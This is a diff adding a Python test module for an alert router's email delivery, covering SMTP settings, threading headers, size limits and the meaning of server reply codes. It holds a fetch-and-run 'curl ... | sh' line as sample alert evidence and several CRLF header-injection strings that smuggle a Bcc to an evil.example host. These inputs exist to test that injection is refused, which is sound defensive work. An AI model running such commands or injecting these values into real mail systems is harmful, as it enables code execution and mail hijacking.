@@ -1,0 +1,400 @@
+"""Mail: what stands in it, how its mails stand under one another, and what a server's answers mean."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from datetime import timedelta
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from pydantic import ValidationError
+
+from router.destinations import discover
+from router.destinations.config import hosts_in
+from router.destinations.email.kind import PAGE_LIMIT, PATIENCE, SUBJECT_LIMIT, TEXT_LIMIT
+from router.destinations.email.mime import mail_of
+from router.destinations.wording.fitting import MARK
+from router.domain.conversation import MailAnswer, MailReply, MailStep, SendMail
+from router.domain.decisions import Change
+from router.domain.deliveries import Attempt, Receipt
+from router.domain.errors import DeliveryError, Rejected, Unauthorized, Unavailable
+from router.domain.evidence import Evidence
+from router.domain.keys import delivery_key
+from router.domain.legible import legible, one_line
+from router.domain.notices import Link
+from tests.destinations.builders import NOW, a_destination, a_huge_notice, a_notice, a_secret, an_attempt
+from tests.destinations.conversations import converse, mail_answered
+from tests.destinations.mails import ReadMail, read, shown_in
+
+PASSWORD = "SMTP_PASSWORD"
+TAKEN = mail_answered(MailStep.MESSAGE, 250, "2.0.0 Ok: queued as 4F2A1C0B")
+EXAMPLE: dict[str, Any] = discover()["email"].Config.model_json_schema()["examples"][0]
+
+
+def mail_for(attempt: Attempt, **config: Any) -> SendMail:
+    """The mail that an attempt asks for."""
+    (ask,), _ = converse(a_destination("email", **config), [attempt], lambda ask: TAKEN)
+    assert isinstance(ask, SendMail)
+    return ask
+
+
+def read_mail(change: Change = Change.OPENED, **notice: Any) -> ReadMail:
+    """What the mail about a notice says."""
+    return read(mail_for(an_attempt(a_notice(**notice), change, secrets=[PASSWORD])))
+
+
+def brought(answer: MailAnswer, **config: Any) -> Receipt | DeliveryError:
+    """What an answer means."""
+    _, (result,) = converse(a_destination("email", **config), [an_attempt(secrets=[PASSWORD])], lambda ask: answer)
+    return result
+
+
+def test_a_mail_goes_from_one_sender_to_the_recipients_of_the_rules() -> None:
+    """Envelope and headers say the same, and the server is told who we are."""
+    mail = mail_for(an_attempt(secrets=[PASSWORD]))
+    assert (mail.host, mail.port, mail.is_cleartext) == ("smtp.soc.example", 587, False)
+    assert (mail.user, mail.password) == ("alert-router", a_secret(PASSWORD))
+    assert (mail.sender, mail.recipients) == (EXAMPLE["from"], tuple(EXAMPLE["to"]))
+    headers = read(mail).headers
+    assert (headers["From"], headers["To"]) == (EXAMPLE["from"], ", ".join(EXAMPLE["to"]))
+    assert headers["Date"] == "Tue, 24 Nov 2026 12:00:30 +0000"
+
+
+def test_a_mailbox_gets_one_mail_however_often_it_is_named() -> None:
+    """Mailboxes are compared without case; so are the places that two streams must not share."""
+    twice = {"to": ["SOC@soc.example", "ada@soc.example", "soc@soc.example"]}
+    assert mail_for(an_attempt(secrets=[PASSWORD]), **twice).recipients == ("soc@soc.example", "ada@soc.example")
+    assert (
+        a_destination("email", **twice).address()
+        == a_destination("email", to=["Ada@soc.example", "soc@soc.example"]).address()
+    )
+
+
+def test_a_server_on_loopback_may_want_neither_tls_nor_a_user() -> None:
+    """The second example: a relay on this machine."""
+    example = discover()["email"].Config.model_json_schema()["examples"][1]
+    kind = discover()["email"]
+    (mail,), (result,) = converse(
+        kind(kind.Config.model_validate(example)), [an_attempt(secrets=[])], lambda ask: TAKEN
+    )
+    assert isinstance(mail, SendMail) and isinstance(result, Receipt)
+    assert (mail.is_cleartext, mail.user, mail.password) == (True, None, None)
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {"tls": "none"},
+        {"tls": "ssl"},
+        {"host": "smtp.soc.example:587"},
+        {"host": "https://smtp.soc.example"},
+        {"host": "smtp.soc.example\n"},
+        {"host": "smtp..example"},
+        {"host": ""},
+        {"port": 0},
+        {"port": 65_536},
+        {"to": []},
+        {"to": ["soc@soc.example"] * 51},
+        {"to": "soc@soc.example"},
+        {"to": ["SOC <soc@soc.example>"]},
+        {"to": ["soc@soc.example, eve@soc.example"]},
+        {"to": ["soc@soc.example\r\nBcc: eve@soc.example"]},
+        {"to": ["{owner.email}"]},
+        {"to": ["soc"]},
+        {"to": ["söc@soc.example"]},
+        {"to": ["soc@söc.example"]},
+        {"to": ["a@b@soc.example"]},
+        {"to": [".soc@soc.example"]},
+        {"to": ["soc@soc..example"]},
+        {"from": '"x"@soc.example'},
+        {"from": "soc@soc.example\n"},
+        {"auth": {"bearer": {"secret": "TOKEN"}}},
+        {"auth": {"user": "us", "password": "hunter2"}},
+    ],
+    ids=str,
+)
+def test_what_is_no_server_or_no_address_is_a_problem(changes: dict[str, Any]) -> None:
+    """Nothing that a parser of mail might read differently; cleartext to another machine; and a secret stays a secret."""
+    with pytest.raises(ValidationError) as refused:
+        a_destination("email", **changes)
+    assert "hunter2" not in str(refused.value)
+
+
+@pytest.mark.parametrize("host", ["127.0.0.1", "::1", "localhost", "127.9.9.9"])
+def test_cleartext_is_for_loopback(host: str) -> None:
+    """As http is."""
+    assert mail_for(an_attempt(secrets=[PASSWORD]), host=host, tls="none").is_cleartext
+
+
+def test_a_server_that_is_yet_to_be_named_is_not_ready() -> None:
+    """Its host counts as an address does: one in `.example` is waited for."""
+    config = discover()["email"].Config
+    assert hosts_in(config.model_validate(EXAMPLE)) == {"smtp.soc.example"}
+    assert hosts_in(config.model_validate(EXAMPLE | {"host": "SMTP.azurecomm.net."})) == {"smtp.azurecomm.net"}
+
+
+def test_azure_s_mail_takes_its_three_part_users() -> None:
+    """Of the resource, the application and the tenant, divided by dots or, as before, by bars."""
+    for user in ("contoso.6f0a3c52.7f0b", "contoso|6f0a3c52|7f0b", "alerts@contoso.example"):
+        auth = {"user": user, "password": {"secret": PASSWORD}}
+        assert mail_for(an_attempt(secrets=[PASSWORD]), host="smtp.azurecomm.net", auth=auth).user == user
+
+
+def test_updates_and_resolutions_stand_under_the_mail_that_opened_it() -> None:
+    """Also where the receipt of that is not known: its id is made of the key, the turn and the destination."""
+    opened = read_mail().headers
+    first = opened["Message-ID"]
+    assert first == f"<{delivery_key(a_notice().key, 1, 'there')}@soc.example>"
+    assert "References" not in opened and "In-Reply-To" not in opened
+    for change, mark in ((Change.UPDATED, "[Updated] "), (Change.RESOLVED, "[Resolved] ")):
+        later = read_mail(change, turn=3).headers
+        assert later["References"] == later["In-Reply-To"] == first != later["Message-ID"]
+        # What stands in brackets before a subject is no part of what it is about, so it is the thread's own.
+        assert later["Subject"] == mark + opened["Subject"]
+
+
+def test_a_mail_is_the_same_over_all_attempts() -> None:
+    """By its `Message-ID`, which is all that a mailbox can tell it by; the date is that of the attempt."""
+    first, second = (
+        read(mail_for(replace(an_attempt(secrets=[PASSWORD]), number=number, now=NOW + timedelta(hours=number))))
+        for number in (1, 2)
+    )
+    assert first.headers["Message-ID"] == second.headers["Message-ID"]
+    assert first.headers["Date"] != second.headers["Date"]
+
+
+def test_a_thread_outlives_a_change_of_the_sender() -> None:
+    """The receipt of the opening says under which id it was sent; what is no id in it is not put into a header."""
+    for handle, expected in (("1@old.example", "<1@old.example>"), ("1@x>\r\nBcc: <eve@x", None)):
+        opening = Receipt(handles={"message_id": handle})
+        attempt = an_attempt(a_notice(turn=2), Change.UPDATED, secrets=[PASSWORD], opening=opening)
+        headers = read(mail_for(attempt)).headers
+        assert headers["References"] == (expected or read_mail().headers["Message-ID"])
+
+
+def test_a_mail_says_what_it_is_to_who_sorts_mail() -> None:
+    """A list of its own for each destination, and no answer from anybody who is away."""
+    headers = read_mail().headers
+    assert headers["List-Id"] == "<there.cwpp.soc.example>"
+    assert headers["Auto-Submitted"] == "auto-generated"
+
+
+@pytest.mark.parametrize(
+    ("severity", "change", "importance"),
+    [
+        ("Critical", Change.OPENED, "high"),
+        ("High", Change.UPDATED, "high"),
+        (None, Change.OPENED, "high"),
+        ("Medium", Change.OPENED, None),
+        ("Low", Change.OPENED, None),
+        ("High", Change.RESOLVED, None),
+    ],
+)
+def test_what_is_grave_and_stands_is_important(severity: str | None, change: Change, importance: str | None) -> None:
+    """What is not known may be as grave as anything; what is over is not."""
+    assert read_mail(change, severity=severity).headers.get("Importance") == importance
+
+
+def test_both_forms_say_all_of_it() -> None:
+    """A text and a page, of which a reader is shown one: the headline first, then what happened."""
+    told: dict[str, Any] = {
+        "description": "It's <b>bold</b> & sign=ed",
+        "evidence": Evidence(processes=("curl -s http://203.0.113.7/a | sh",)),
+        "runbooks": ("https://contoso.wiki.example/a?b=1&c=2",),
+        "links": (Link(text="Report", url="https://contoso.wiki.example/r"),),
+    }
+    mail = read_mail(**told)
+    shown = shown_in(mail.page)
+    for form in (mail.text, shown):
+        words = [
+            "High: Suspicious sign-in to a virtual machine - vm-pay-01", "It's <b>bold</b> & sign=ed", "vm-pay-01",
+            "payments-platform / Payments", "curl -s http://203.0.113.7/a | sh", "Change the password.", "Runbook",
+            "Report", f"{a_notice().key}, turn 1", "Sent by the alert router to there (cwpp)",
+        ]  # fmt: skip
+        assert [word for word in words if word not in form] == []
+        assert form.strip().startswith(words[0])
+    assert 'href="https://contoso.wiki.example/a?b=1&amp;c=2"' in mail.page
+    assert "<b>" not in mail.page
+
+
+def test_what_is_over_is_told_in_short() -> None:
+    """The thread has the rest."""
+    mail = read_mail(Change.RESOLVED)
+    for form in (mail.text, mail.page):
+        assert "reports that this is over" in form
+        assert "Somebody signed in" not in form and "Change the password" not in form
+
+
+def test_a_page_that_says_too_much_says_what_it_leaves_out() -> None:
+    """Gmail hides what is beyond 102 KB; texts and lists are cut further and further, each with a mark."""
+    mail = read(mail_for(an_attempt(a_huge_notice(), secrets=[PASSWORD])))
+    assert len(mail.page.encode()) <= PAGE_LIMIT
+    assert MARK in mail.page and "more]" in mail.page
+    assert len(mail.headers["Subject"]) == SUBJECT_LIMIT and mail.headers["Subject"].endswith(MARK)
+    assert len(mail.text) <= 2 * TEXT_LIMIT
+
+
+@given(st.characters(), st.integers(0, 4_000))
+@settings(max_examples=30, deadline=None)
+def test_whatever_an_alert_says_the_page_fits(character: str, length: int) -> None:
+    """Also where every sign of it is written as five."""
+    text, huge = character * length, a_huge_notice()
+    told: dict[str, Any] = dict.fromkeys(("title", "description", "resource", "status", "reason", "type"), text)
+    extended = {f"{number} {text}"[:100]: text for number in range(300)}
+    mail = read_mail(
+        **told, extended=extended, unlisted=tuple(extended), evidence=huge.evidence, remediation=(text,) * 99
+    )
+    assert len(mail.page.encode()) <= PAGE_LIMIT
+
+
+@given(st.text(max_size=250).map(one_line).map(str.strip), st.text(max_size=300).map(legible))
+@settings(max_examples=200, deadline=None)
+def test_a_subject_and_a_text_arrive_as_they_were_written(subject: str, text: str) -> None:
+    """Whatever is in them, in lines that every server takes, and nothing of it becomes a header or a part."""
+    raw = mail_of({"From": "a@b.example", "Subject": subject}, text, text, "0a")
+    mail = read(SendMail(host="x", port=1, sender="a@b.example", recipients=(), message=raw))
+    assert mail.headers["Subject"] == subject
+    assert list(mail.headers) == ["From", "Subject", "MIME-Version", "Content-Type"]
+    assert mail.text.rstrip("\n") == mail.page.rstrip("\n") == text.rstrip("\n")
+    assert raw.isascii() and max(len(line) for line in raw.split(b"\r\n")) <= 78
+    assert b"\n" not in raw.replace(b"\r\n", b"") and b"\r" not in raw.replace(b"\r\n", b"")
+
+
+@pytest.mark.parametrize(
+    "title",
+    [
+        "=?utf-8?q?x=0D=0ABcc:_eve@evil.example.com?=",
+        "x\r\nBcc: eve@evil.example.com",
+        "x\r\n\r\n--=_0a",
+        "=?utf-8?b?PGI+?= \ud800",
+    ],
+)
+def test_a_title_makes_no_header(title: str) -> None:
+    """Neither by a line's end nor by a word that stands for one."""
+    mail = read_mail(title=title)
+    assert mail.headers.keys() == read_mail().headers.keys()
+    assert one_line(" ".join(title.split()))[:10] in mail.headers["Subject"]
+
+
+def test_what_is_no_ascii_stands_in_no_other_header() -> None:
+    """Addresses are checked where rules are read."""
+    for value in ("a@b.example\r\nBcc: c@d.example", "ä@b.example"):
+        with pytest.raises(ValueError, match="To: is no ASCII on one line"):
+            mail_of({"To": value}, "", "", "0a")
+
+
+def test_a_receipt_says_what_the_server_calls_the_mail() -> None:
+    """And under which id it stands in a mailbox."""
+    receipt = brought(TAKEN)
+    assert isinstance(receipt, Receipt)
+    assert receipt.reference == "4F2A1C0B"
+    assert receipt.handles == {"message_id": f"{delivery_key(a_notice().key, 1, 'there')}@soc.example"}
+
+
+@pytest.mark.parametrize(
+    ("said", "reference"),
+    [
+        ("2.0.0 Ok: queued as 4XyZ1", "4XyZ1"),
+        ("2.6.0 <1@x> [InternalId=1, Hostname=a] Queued mail for delivery", None),
+        ("2.0.0 Ok: queued as <script>", None),
+        ("OK", None),
+    ],
+)
+def test_what_is_no_name_of_a_mail_is_no_reference(said: str, reference: str | None) -> None:
+    """Servers say it in their own ways, or not at all."""
+    receipt = brought(mail_answered(MailStep.MESSAGE, 250, said))
+    assert isinstance(receipt, Receipt) and receipt.reference == reference
+
+
+def test_a_receipt_names_whom_the_server_refused() -> None:
+    """With its codes, and without its words."""
+    refused = {
+        "ada@soc.example": MailReply(code=550, text="5.1.1 <ada@soc.example> unknown"),
+        "b@x.example": MailReply(code=450, text="no"),
+    }
+    receipt = brought(replace(TAKEN, refused=refused))
+    assert isinstance(receipt, Receipt)
+    assert receipt.handles["refused"] == "ada@soc.example: 550 5.1.1, b@x.example: 450"
+
+
+@pytest.mark.parametrize(("waited", "is_for_all"), [(-1, True), (0, False), (1, False)])
+def test_a_mail_waits_for_a_recipient_for_ten_minutes(waited: int, is_for_all: bool) -> None:
+    """From when it is owed."""
+    attempt = replace(an_attempt(secrets=[PASSWORD]), since=NOW - PATIENCE - timedelta(seconds=waited))
+    assert mail_for(attempt).is_for_all is is_for_all
+
+
+@pytest.mark.parametrize(
+    ("step", "code", "text", "error"),
+    [
+        (MailStep.CONNECTION, 421, "4.7.0 too many connections", Unavailable),
+        (MailStep.CONNECTION, 554, "5.7.1 no service for you", Unavailable),
+        (MailStep.HELLO, 550, "", Unavailable),
+        (MailStep.TLS, 454, "4.7.0 TLS not available", Unavailable),
+        (MailStep.TLS, 501, "", Unavailable),
+        (MailStep.AUTH, 454, "4.7.0 Temporary authentication failure", Unavailable),
+        (MailStep.AUTH, 432, "4.3.2 Concurrent connections limit exceeded", Unavailable),
+        (MailStep.AUTH, 535, "5.7.3 Authentication unsuccessful", Unauthorized),
+        (MailStep.AUTH, 534, "5.7.9 Application-specific password required", Unauthorized),
+        (MailStep.AUTH, 504, "5.5.4 Unrecognized authentication type", Unauthorized),
+        (MailStep.SENDER, 530, "5.7.57 Client not authenticated to send mail", Unauthorized),
+        (MailStep.SENDER, 550, "5.7.1 Sender not allowed", Unauthorized),
+        (MailStep.SENDER, 553, "5.7.1 Sender address rejected: not owned by user", Unauthorized),
+        (MailStep.SENDER, 451, "4.3.0 try later", Unavailable),
+        (MailStep.SENDER, 552, "5.3.4 Message size exceeds fixed limit", Rejected),
+        (MailStep.RECIPIENTS, 450, "4.2.0 greylisted", Unavailable),
+        (MailStep.RECIPIENTS, 452, "4.5.3 Too many recipients", Unavailable),
+        (MailStep.RECIPIENTS, 550, "5.1.1 no such user", Rejected),
+        (MailStep.RECIPIENTS, 550, "5.7.54 Unable to relay recipient", Unauthorized),
+        (MailStep.MESSAGE, 421, "4.4.2 timeout", Unavailable),
+        (MailStep.MESSAGE, 451, "4.3.0 later", Unavailable),
+        (MailStep.MESSAGE, 452, "4.3.1 no space", Unavailable),
+        (MailStep.MESSAGE, 354, "go on", Unavailable),
+        (MailStep.MESSAGE, 550, "5.7.1 spam", Rejected),
+        (MailStep.MESSAGE, 552, "5.2.3 too long", Rejected),
+        (MailStep.MESSAGE, 554, "5.6.0 not well formed", Rejected),
+        (MailStep.MESSAGE, 554, "5.2.252 SendAsDenied", Unauthorized),
+        (MailStep.MESSAGE, 550, "5.7.60 Client does not have permissions to send as this sender", Unauthorized),
+    ],
+)
+def test_an_answer_means_later_mended_or_never(
+    step: MailStep, code: int, text: str, error: type[DeliveryError]
+) -> None:
+    """What is about us or our sender is about every mail and pauses; what is about this mail is final."""
+    result = brought(mail_answered(step, code, text))
+    assert type(result) is error
+    assert str(result).startswith(f"email: answered {code} to the {step}")
+    assert text in str(result)
+
+
+def test_a_server_that_is_asked_too_much_is_asked_less() -> None:
+    """421 and its like count as 429 does."""
+    for code, is_crowded in ((421, True), (432, True), (450, True), (452, True), (451, False)):
+        result = brought(mail_answered(MailStep.MESSAGE, code))
+        assert isinstance(result, Unavailable) and result.is_crowded is is_crowded
+
+
+def test_a_mail_that_is_refused_shows_that_we_were_let_in() -> None:
+    """So it resumes a paused destination; not where nobody asked who we are."""
+    refusal = mail_answered(MailStep.MESSAGE, 554, "5.6.0 no")
+    for auth, is_known in ((EXAMPLE["auth"], True), (None, False)):
+        result = brought(refusal, auth=auth)
+        assert isinstance(result, Rejected)
+        assert (result.authenticated, result.status) == (is_known, 554)
+
+
+def test_what_a_server_says_back_is_kept_out_of_errors() -> None:
+    """Our password in any form, and what would act on a terminal."""
+    secret = a_secret(PASSWORD)
+    result = brought(mail_answered(MailStep.AUTH, 535, f"5.7.8 {secret}\x1b[31m\udcff"))
+    assert secret not in str(result) and "\x1b" not in str(result)
+
+
+def test_the_user_may_be_a_secret_too() -> None:
+    """As in any `auth`; one that has no value pauses the destination."""
+    auth = {"user": {"secret": "SMTP_USER"}, "password": {"secret": PASSWORD}}
+    assert mail_for(an_attempt(secrets=[PASSWORD, "SMTP_USER"]), auth=auth).user == a_secret("SMTP_USER")
+    _, (result,) = converse(a_destination("email", auth=auth), [an_attempt(secrets=[PASSWORD])], lambda ask: TAKEN)
+    assert isinstance(result, Unauthorized) and "SMTP_USER" in str(result)
